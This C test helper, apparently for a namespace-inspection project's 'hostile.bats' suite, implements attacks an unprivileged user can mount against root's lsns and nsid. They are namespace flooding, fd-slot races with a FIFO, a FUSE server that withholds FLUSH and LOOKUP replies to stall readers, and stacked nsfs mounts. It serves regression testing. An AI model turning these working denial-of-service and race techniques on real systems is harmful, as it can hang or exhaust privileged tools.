/* SPDX-License-Identifier: 0BSD */
/* hostile: what an unprivileged user can do to root's lsns and nsid (issue
 * 21), for tests/hostile.bats. Run as that user:
 *   hostile nsflood N OUT            N uts namespaces, each held by an fd
 *   hostile fifoswap N DIR OUT       the same, each also in a slot swapped with
 *                                    an O_PATH fd of the FIFO DIR/fifo, over
 *                                    and over
 *   hostile fuseswap DEV MNT K OUT   K socket fds, each swapped with a file on
 *                                    a FUSE mount at MNT (DEV: a /dev/fuse
 *                                    node) whose server answers no FLUSH but
 *                                    its own process's
 *   hostile fusestall DEV MNT OUT    a FUSE mount at MNT whose server answers
 *                                    no LOOKUP (OUT: the pid of a process in
 *                                    its user and mount namespaces)
 *   hostile stack N FILE OUT         N nsfs bind mounts stacked on FILE, in a
 *                                    mount namespace of its own
 * Each writes OUT when ready (the namespaces' inodes, one a line; else
 * its pid), then holds until killed (300 s at most). Exit 77, with the
 * reason on stderr: the kernel or the system lacks what it needs.
 *   hostile measure CMD [ARG...]     run CMD, then say on stderr
 *                                    "measure: cpu_ms=C maxrss_kb=R wall_ms=W"
 *                                    (CMD's and its waited-for children's) */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static _Noreturn void lacks(const char *what)
{
	fprintf(stderr, "hostile: %s: %s\n", what, strerror(errno));
	exit(77);
}

static _Noreturn void fail(const char *what)
{
	fprintf(stderr, "hostile: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text))
		fail(path);
	close(fd);
}

/* A user namespace (and extra ones) in which we are root. */
static void userns(int extra)
{
	char map[64];
	unsigned uid = getuid(), gid = getgid();

	if (unshare(CLONE_NEWUSER | extra) < 0)
		lacks("unshare");
	snprintf(map, sizeof map, "0 %u 1", uid);
	write_file("/proc/self/uid_map", map);
	write_file("/proc/self/setgroups", "deny");
	snprintf(map, sizeof map, "0 %u 1", gid);
	write_file("/proc/self/gid_map", map);
	if ((extra & CLONE_NEWNS) && mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
		fail("mount --make-rprivate /");
}

/* OUT, whole once it exists (written aside, then renamed). */
static void ready(const char *out, const char *text)
{
	char tmp[4096];
	snprintf(tmp, sizeof tmp, "%s.tmp", out);
	FILE *f = fopen(tmp, "w");
	if (!f || fputs(text, f) < 0 || fclose(f) != 0 || rename(tmp, out) < 0)
		fail(out);
}

static _Noreturn void hold(void)
{
	alarm(300);
	for (;;)
		pause();
}

/* n uts namespaces, each held by an fd (returned in fds); their inodes
 * are OUT's text. */
static char *uts_namespaces(int n, int *fds)
{
	size_t size = (size_t)n * 24 + 1, len = 0;
	char *text = malloc(size);
	struct stat st;

	if (!text)
		fail("malloc");
	text[0] = '\0';
	for (int i = 0; i < n; i++) {
		if (unshare(CLONE_NEWUTS) < 0)
			fail("unshare -u");
		fds[i] = open("/proc/self/ns/uts", O_RDONLY | O_CLOEXEC);
		if (fds[i] < 0 || fstat(fds[i], &st) < 0)
			fail("/proc/self/ns/uts");
		len += (size_t)snprintf(text + len, size - len, "%llu\n", (unsigned long long)st.st_ino);
	}
	return text;
}

/* As many fds as asked, or what the hard limit allows. */
static int fd_room(int want)
{
	struct rlimit rl;
	if (getrlimit(RLIMIT_NOFILE, &rl) < 0)
		fail("getrlimit");
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	if (rl.rlim_cur != RLIM_INFINITY && (rlim_t)want + 2100 > rl.rlim_cur)
		want = rl.rlim_cur > 2100 ? (int)rl.rlim_cur - 2100 : 1;
	return want;
}

static int nsflood(int n, const char *out)
{
	n = fd_room(n);
	int *fds = malloc((size_t)n * sizeof *fds);
	if (!fds)
		fail("malloc");
	userns(0);
	ready(out, uts_namespaces(n, fds));
	hold();
}

struct swap {
	int fifo, *fds, n, first, step;
};

/* Each slot: a namespace half the time, the FIFO the other. */
static void *swap_slots(void *arg)
{
	const struct swap *sw = arg;
	for (;;) {
		for (int i = sw->first; i < sw->n; i += sw->step)
			dup2(sw->fifo, 100 + i);
		for (int i = sw->first; i < sw->n; i += sw->step)
			dup2(sw->fds[i], 100 + i);
	}
	return NULL;
}

static int fifoswap(int n, const char *dir, const char *out)
{
	char path[4096];
	int fds[64];

	if (n > 64)
		n = 64;
	snprintf(path, sizeof path, "%s/fifo", dir);
	if (mkfifo(path, 0600) < 0)
		fail(path);
	int fifo = open(path, O_PATH | O_CLOEXEC);	/* neither reader nor writer */
	if (fifo < 0)
		fail(path);
	fd_room(n);
	userns(0);
	char *text = uts_namespaces(n, fds);
	/* the slots (fds 100...) come first in /proc/PID/fd: there lsns meets
	 * each namespace first; the fds that hold them move above (1000...) */
	for (int i = 0; i < n; i++) {
		if (dup2(fds[i], 1000 + i) < 0 || dup2(fds[i], 100 + i) < 0)
			fail("dup2");
		close(fds[i]);
		fds[i] = 1000 + i;
	}
	ready(out, text);
	alarm(300);
	/* swappers on every CPU: the race is lsns's, between its look at a
	 * slot and its open of it */
	static struct swap sw[2];
	pthread_t tid;
	for (int t = 0; t < 2; t++)
		sw[t] = (struct swap){ fifo, fds, n, t, 2 };
	if (pthread_create(&tid, NULL, swap_slots, &sw[0]) != 0)
		fail("pthread_create");
	swap_slots(&sw[1]);
	return 0;
}

/* ---- a FUSE server that never answers another process's FLUSH ---- */

struct fuse_in_header {
	uint32_t len, opcode;
	uint64_t unique, nodeid;
	uint32_t uid, gid, pid;
	uint16_t total_extlen, padding;
};
struct fuse_out_header {
	uint32_t len;
	int32_t error;
	uint64_t unique;
};
struct fuse_attr {
	uint64_t ino, size, blocks, atime, mtime, ctime;
	uint32_t atimensec, mtimensec, ctimensec, mode, nlink, uid, gid, rdev, blksize, flags;
};
enum { FUSE_LOOKUP = 1, FUSE_FORGET = 2, FUSE_GETATTR = 3, FUSE_OPEN = 14, FUSE_RELEASE = 18,
       FUSE_FLUSH = 25, FUSE_INIT = 26, FUSE_OPENDIR = 27, FUSE_RELEASEDIR = 29,
       FUSE_INTERRUPT = 36, FUSE_BATCH_FORGET = 42 };

static void fuse_reply(int dev, uint64_t unique, int error, const void *body, size_t size)
{
	char buf[256];
	struct fuse_out_header h = { (uint32_t)(sizeof h + size), error, unique };
	memcpy(buf, &h, sizeof h);
	memcpy(buf + sizeof h, body, size);
	if (write(dev, buf, sizeof h + size) < 0 && errno != ENOENT)
		fail("write /dev/fuse");
}

static void fuse_attr_of(uint64_t node, struct fuse_attr *a)
{
	*a = (struct fuse_attr){ .ino = node, .mode = node == 1 ? S_IFDIR | 0755 : S_IFREG | 0644,
				 .nlink = node == 1 ? 2 : 1, .blksize = 4096 };
}

static bool stall_lookups;	/* fusestall: no LOOKUP is ever answered */

static _Noreturn void fuse_serve(int dev, pid_t friend)
{
	static char buf[(1 << 17) + 4096];
	struct { uint64_t nodeid, generation, entry_valid, attr_valid;
		 uint32_t entry_valid_nsec, attr_valid_nsec; struct fuse_attr attr; } entry;
	struct { uint64_t attr_valid; uint32_t attr_valid_nsec, dummy; struct fuse_attr attr; } attr;
	struct { uint64_t fh; uint32_t open_flags, padding; } open_out = { 1, 0, 0 };
	uint32_t init[16];

	for (;;) {
		ssize_t n = read(dev, buf, sizeof buf);
		if (n < 0 && (errno == EINTR || errno == ENOENT))
			continue;
		if (n < (ssize_t)sizeof(struct fuse_in_header))
			exit(0);	/* unmounted */
		struct fuse_in_header *in = (struct fuse_in_header *)buf;
		switch (in->opcode) {
		case FUSE_INIT:
			memset(init, 0, sizeof init);
			init[0] = 7;		/* major */
			init[1] = 26;		/* minor */
			memcpy(&init[2], buf + sizeof *in + 8, 4);	/* max_readahead */
			init[5] = 4096;		/* max_write */
			fuse_reply(dev, in->unique, 0, init, sizeof init);
			break;
		case FUSE_LOOKUP:
			if (stall_lookups)
				break;
			if (in->nodeid != 1 || strcmp(buf + sizeof *in, "f")) {
				fuse_reply(dev, in->unique, -ENOENT, NULL, 0);
				break;
			}
			entry = (typeof(entry)){ .nodeid = 2, .entry_valid = 3600, .attr_valid = 3600 };
			fuse_attr_of(2, &entry.attr);
			fuse_reply(dev, in->unique, 0, &entry, sizeof entry);
			break;
		case FUSE_GETATTR:
			attr = (typeof(attr)){ .attr_valid = 3600 };
			fuse_attr_of(in->nodeid, &attr.attr);
			fuse_reply(dev, in->unique, 0, &attr, sizeof attr);
			break;
		case FUSE_OPEN:
		case FUSE_OPENDIR:
			fuse_reply(dev, in->unique, 0, &open_out, sizeof open_out);
			break;
		case FUSE_FLUSH:	/* the attack: no answer but to our own closes */
			if ((pid_t)in->pid == friend)
				fuse_reply(dev, in->unique, 0, NULL, 0);
			break;
		case FUSE_RELEASE:
		case FUSE_RELEASEDIR:
			fuse_reply(dev, in->unique, 0, NULL, 0);
			break;
		case FUSE_FORGET:
		case FUSE_BATCH_FORGET:
		case FUSE_INTERRUPT:
			break;
		default:
			fuse_reply(dev, in->unique, -ENOSYS, NULL, 0);
		}
	}
}

/* A FUSE mount at MNT (by DEV) in a user and mount namespace of our own,
 * served by a child; the server's pid (in those namespaces) on OUT. */
static pid_t fuse_mount(const char *devpath, const char *mnt, bool allow_other)
{
	char opts[128];

	userns(CLONE_NEWNS);
	int dev = open(devpath, O_RDWR | O_CLOEXEC);
	if (dev < 0)
		lacks(devpath);
	snprintf(opts, sizeof opts, "fd=%d,rootmode=40000,user_id=0,group_id=0%s", dev,
		 allow_other ? ",allow_other" : "");
	if (mount("nsbox-test", mnt, "fuse", MS_NOSUID | MS_NODEV, opts) < 0)
		lacks("mount -t fuse (in a user namespace: Linux 4.18+)");
	pid_t owner = getpid(), server = fork();
	if (server < 0)
		fail("fork");
	if (server == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		fuse_serve(dev, owner);
	}
	close(dev);
	return server;
}

static _Noreturn int fusestall(const char *devpath, const char *mnt, const char *out)
{
	char text[32];

	stall_lookups = true;
	/* (allow_other: what enters its namespaces may use it too) */
	pid_t server = fuse_mount(devpath, mnt, true);
	snprintf(text, sizeof text, "%d\n", (int)server);
	ready(out, text);
	alarm(300);
	for (;;)
		pause();
}

static int fuseswap(const char *devpath, const char *mnt, int k, const char *out)
{
	char path[4096], text[32];
	int socks[64];

	if (k > 64)
		k = 64;
	pid_t server = fuse_mount(devpath, mnt, false);
	snprintf(path, sizeof path, "%s/f", mnt);
	int file = open(path, O_RDONLY | O_CLOEXEC);
	if (file < 0)
		fail(path);
	for (int i = 0; i < k; i++) {
		socks[i] = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		if (socks[i] < 0 || dup2(socks[i], 1000 + i) < 0)
			fail("socket");
	}
	snprintf(text, sizeof text, "%d\n", (int)server);
	ready(out, text);
	alarm(300);
	for (;;) {	/* each slot: a socket half the time, the FUSE file the other */
		for (int i = 0; i < k; i++)
			dup2(file, 1000 + i);
		for (int i = 0; i < k; i++)
			dup2(socks[i], 1000 + i);	/* closes the file: a FLUSH, ours */
	}
}

#ifndef OPEN_TREE_CLONE
#define OPEN_TREE_CLONE 1
#endif
#define MOVE_MOUNT_F_EMPTY_PATH 0x04
#define MOVE_MOUNT_T_EMPTY_PATH 0x40

/* Stacked through the new mount API, each onto the fd of the one below:
 * no path walk up the stack, so making n costs O(n). */
static int stack(int n, const char *file, const char *out)
{
	char text[32];

	userns(CLONE_NEWNS | CLONE_NEWUTS);	/* its own namespace to stack */
	int top = open(file, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (top < 0)
		fail(file);
	for (int i = 0; i < n; i++) {
		int tree = (int)syscall(SYS_open_tree, AT_FDCWD, "/proc/self/ns/uts", OPEN_TREE_CLONE | O_CLOEXEC);
		if (tree < 0)
			lacks("open_tree (Linux 5.2+)");
		if (syscall(SYS_move_mount, tree, "", top, "", MOVE_MOUNT_F_EMPTY_PATH | MOVE_MOUNT_T_EMPTY_PATH) < 0)
			fail("move_mount");
		close(top);
		top = tree;
	}
	close(top);	/* the mounts hold it, no fd */
	snprintf(text, sizeof text, "%d\n", (int)getpid());
	ready(out, text);
	hold();
}

static int measure(char **argv)
{
	struct timespec t0, t1;
	struct rusage ru;
	int status;

	clock_gettime(CLOCK_MONOTONIC, &t0);
	pid_t pid = fork();
	if (pid < 0)
		fail("fork");
	if (pid == 0) {
		execvp(argv[0], argv);
		_exit(127);
	}
	if (wait4(pid, &status, 0, &ru) < 0)
		fail("wait4");
	clock_gettime(CLOCK_MONOTONIC, &t1);
	long cpu = (long)(ru.ru_utime.tv_sec + ru.ru_stime.tv_sec) * 1000 +
		   (long)(ru.ru_utime.tv_usec + ru.ru_stime.tv_usec) / 1000;
	long wall = (long)(t1.tv_sec - t0.tv_sec) * 1000 + (t1.tv_nsec - t0.tv_nsec) / 1000000;
	fprintf(stderr, "measure: cpu_ms=%ld maxrss_kb=%ld wall_ms=%ld\n", cpu, ru.ru_maxrss, wall);
	return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
}

int main(int argc, char **argv)
{
	const char *cmd = argc > 1 ? argv[1] : "";

	if (!strcmp(cmd, "nsflood") && argc == 4)
		return nsflood(atoi(argv[2]), argv[3]);
	if (!strcmp(cmd, "fifoswap") && argc == 5)
		return fifoswap(atoi(argv[2]), argv[3], argv[4]);
	if (!strcmp(cmd, "fuseswap") && argc == 6)
		return fuseswap(argv[2], argv[3], atoi(argv[4]), argv[5]);
	if (!strcmp(cmd, "fusestall") && argc == 5)
		return fusestall(argv[2], argv[3], argv[4]);
	if (!strcmp(cmd, "stack") && argc == 5)
		return stack(atoi(argv[2]), argv[3], argv[4]);
	if (!strcmp(cmd, "measure") && argc > 2)
		return measure(argv + 2);
	fprintf(stderr, "usage: hostile nsflood|fifoswap|fuseswap|fusestall|stack|measure ...\n");
	return 2;
}
